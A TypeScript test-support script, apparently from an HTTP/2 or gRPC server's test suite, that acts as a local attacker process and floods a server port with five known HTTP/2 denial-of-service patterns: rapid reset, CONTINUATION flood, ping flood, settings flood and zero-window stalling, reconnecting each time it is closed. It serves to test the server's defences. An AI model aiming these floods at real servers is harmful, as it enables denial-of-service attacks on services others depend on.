/**
 * One attacker, in a process of its own: floods the server at `--port` for `--ms` milliseconds, and connects again whenever it is closed.
 * Writes `{"closed":N}` at the end.
 */
import { parseArgs } from 'node:util';
import { connectRawHttp2, FLAG, FRAME, frame, headerBlock, setting } from '#test/support/http2-frames.ts';

const { values } = parseArgs({
  options: { flood: { type: 'string' }, port: { type: 'string' }, ms: { type: 'string' } },
});

const HEADERS = headerBlock({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': '/grpc.health.v1.Health/Check',
  ':authority': 'a',
  'content-type': 'application/grpc',
});
const CANCEL = Buffer.from([0, 0, 0, 8]);
const MESSAGE = Buffer.alloc(5);
const times = (count: number, bytes: Buffer) => Array.from({ length: count }, () => bytes);
const hundredStreams = (round: number) => Array.from({ length: 100 }, (_, i) => 1 + 2 * (round * 100 + i));

interface Flood {
  readonly settings?: readonly Uint8Array[];
  readonly piece: (round: number) => Buffer[];
  /** Sends its pieces so often, and then waits to be closed; unset: without end. */
  readonly rounds?: number;
}

const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': {
    piece: round =>
      hundredStreams(round).flatMap(id => [
        frame(FRAME.headers, FLAG.endHeaders, id, HEADERS),
        frame(FRAME.rstStream, 0, id, CANCEL),
      ]),
  },
  'CONTINUATION flood': {
    piece: round => [
      ...(round === 0 ? [frame(FRAME.headers, FLAG.none, 1, HEADERS)] : []),
      ...times(100, frame(FRAME.continuation, FLAG.none, 1, headerBlock({ x: 'y' }))),
    ],
  },
  'ping flood': { piece: () => times(100, frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8))) },
  'settings flood': { piece: () => times(100, frame(FRAME.settings, FLAG.none, 0, setting(3, 100))) },
  'zero windows': {
    // SETTINGS_INITIAL_WINDOW_SIZE: it asks, and takes no byte of what it asked for.
    settings: [setting(4, 0)],
    piece: round =>
      hundredStreams(round).flatMap(id => [
        frame(FRAME.headers, FLAG.endHeaders, id, HEADERS),
        frame(FRAME.data, FLAG.endStream, id, MESSAGE),
      ]),
    rounds: 2,
  },
};

const flood = FLOODS[values.flood ?? ''];
if (flood === undefined) throw new Error(`no flood '${values.flood}'; there are ${Object.keys(FLOODS).join(', ')}`);
const over = AbortSignal.timeout(Number(values.ms));
const isOver = new Promise<void>(resolve => over.addEventListener('abort', () => resolve()));
let closed = 0;
while (!over.aborted) {
  // The good clients have another address.
  using client = await connectRawHttp2(Number(values.port), flood.settings, '127.0.0.2').catch(() => undefined);
  if (client === undefined) {
    closed++;
    continue;
  }
  let isOpen = true;
  void client.closed.then(() => {
    isOpen = false;
  });
  for (let round = 0; isOpen && !over.aborted && round < (flood.rounds ?? Number.POSITIVE_INFINITY); round++) {
    await client.send(...flood.piece(round));
    await new Promise(setImmediate);
  }
  if (isOpen && flood.rounds !== undefined) await Promise.race([client.closed, isOver]);
  if (!over.aborted) closed++;
}
console.log(JSON.stringify({ closed }));
process.exit();
